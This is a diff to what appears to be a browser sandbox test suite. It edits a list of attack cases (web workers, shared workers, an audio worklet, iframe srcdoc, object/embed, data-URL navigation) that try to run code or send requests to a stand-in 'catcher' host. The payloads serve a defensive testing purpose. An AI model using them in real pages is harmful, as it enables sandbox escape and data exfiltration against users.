@@ -42,15 +42,22 @@ export const scripts: readonly Attack[] = [
     code: `location.href = 'javascript:console.info("attack out [NAME] address")'; ${wait}`,
   },
   {
-    name: 'worker of a blob, of data, of another site',
-    code: `for (const address of ['data:text/javascript,postMessage(1)', catcher + '/worker.js', location.href]) {
-        const worker = new Worker(address);
-        worker.onmessage = () => out('worker ran');
-      } ${wait}`,
+    name: 'worker of a blob',
+    code: `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
+      worker.onmessage = () => out('worker ran'); ${wait}`,
+  },
+  {
+    name: 'worker of a data address',
+    code: `new Worker('data:text/javascript,postMessage(1)').onmessage = () => out('worker ran'); ${wait}`,
+  },
+  {
+    // It is no script: that it is fetched is enough.
+    name: 'worker of this site',
+    code: `new Worker(location.href).onerror = () => out('asked for'); ${wait}`,
   },
   {
     name: 'shared worker',
-    code: `const worker = new SharedWorker('data:text/javascript,onconnect=(event)=>event.ports[0].postMessage(1)');
+    code: `const worker = new SharedWorker(URL.createObjectURL(new Blob(['onconnect=(event)=>event.ports[0].postMessage(1)'], { type: 'text/javascript' })));
       worker.port.onmessage = () => out('shared worker ran'); worker.port.start(); ${wait}`,
   },
   {
@@ -59,8 +66,7 @@ export const scripts: readonly Attack[] = [
   },
   {
     name: 'worklet',
-    code: `await CSS.paintWorklet.addModule(catcher + '/worklet.js'); ${wait}`,
-    neverOut: 'the tests run without a paint worklet',
+    code: `await new AudioContext().audioWorklet.addModule(catcher + '/worklet.js'); out('added')`,
   },
   {
     name: 'base address',
@@ -80,10 +86,12 @@ export const frames: readonly Attack[] = [
     code: html(
       `<iframe srcdoc="<script src='\${catcher}/srcdoc.js'></script><img src='\${catcher}/srcdoc'>"></iframe>`,
     ),
+    paths: ['srcdoc.js', 'srcdoc'],
   },
   {
     name: 'object and embed',
     code: html(`<object data="\${catcher}/object"></object><embed src="\${catcher}/embed">`),
+    paths: ['object', 'embed'],
   },
   {
     name: 'leaves with data in the address',
@@ -109,7 +117,6 @@ export const frames: readonly Attack[] = [
     name: 'leaves for a data address',
     code: `location.href = 'data:text/html,<img src=' + catcher + '/data>'; ${wait}`,
     ends: LEFT,
-    neverOut: 'a picture in a data page is left to the browser',
   },
   {
     name: 'leaves for a page of this site',
